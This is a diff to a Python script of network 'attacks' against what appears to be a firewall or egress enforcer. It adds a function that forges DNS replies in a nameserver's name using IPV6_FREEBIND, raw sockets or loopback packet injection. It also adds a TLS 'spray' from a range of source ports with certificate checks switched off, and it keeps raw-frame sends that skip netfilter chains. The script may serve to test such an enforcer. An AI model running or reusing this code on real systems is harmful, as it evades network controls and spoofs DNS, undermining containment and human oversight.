@@ -5,12 +5,14 @@ from __future__ import annotations
 import ctypes
 import random
 import socket
+import ssl
 import struct
 import sys
 from collections.abc import Callable
 
 SOL_PACKET, PACKET_QDISC_BYPASS, SO_PRIORITY, SO_MARK, SO_ATTACH_FILTER = 263, 20, 12, 36, 26
 ETH_P_ALL, ETH_P_IP = 3, 0x0800
+IPV6_FREEBIND = 78
 
 
 def checksum(data: bytes) -> int:
@@ -31,7 +33,7 @@ def datagram(source: str, target: str, source_port: int, port: int, payload: byt
 def packet_socket(bypass: str, source: str, target: str, port: str, mac: str) -> None:
     """Puts a frame on the wire behind every inet chain."""
     with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP)) as sender:
-        sender.bind(("eth0", ETH_P_IP))
+        sender.bind((next(name for _, name in socket.if_nameindex() if name != "lo"), ETH_P_IP))
         if bypass == "bypass":
             sender.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
         own = sender.getsockname()[4]
@@ -101,6 +103,44 @@ def spray(target: str, low: str, high: str, label: str) -> None:
                 continue
 
 
+def spray_tls(target: str, low: str, high: str, name: str) -> None:
+    """From every port that the enforcer may have dialled a web server from, asks that server for something else."""
+    context = ssl.create_default_context()
+    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+    for port in range(int(low), int(high) + 1):
+        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as connection:
+            connection.settimeout(1)
+            connection.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+            try:
+                connection.bind(("0.0.0.0", port))
+                connection.connect((target, 443))
+                with context.wrap_socket(connection, server_hostname=name) as session:
+                    session.sendall(f"GET /sprayed HTTP/1.1\r\nHost: {name}\r\n\r\n".encode())
+                    session.recv(512)
+            except OSError:
+                continue
+
+
+def forge(way: str, source: str, target: str, port: str, message: str) -> None:
+    """Answers a query of a program here in the name of its nameserver, without a packet from outside."""
+    payload = bytes.fromhex(message)
+    if way == "freebind":
+        # The kernel lets anybody bind to an address that is not the machine's.
+        with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sender:
+            sender.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
+            sender.bind((source, 53))
+            sender.sendto(payload, (target, int(port)))
+        return
+    packet = datagram(source, target, 53, int(port), payload)
+    if way == "raw":
+        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sender:
+            sender.sendto(packet, (target, 0))
+    else:
+        with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP)) as sender:
+            sender.sendto(packet, ("lo", ETH_P_IP, 0, 0, bytes(6)))
+
+
 if __name__ == "__main__":
     attacks: dict[str, Callable[..., None]] = {"packet": packet_socket, "marks": marks, "spy": spy, "spray": spray}
+    attacks |= {"forge": forge, "spray-tls": spray_tls}
     attacks[sys.argv[1]](*sys.argv[2:])
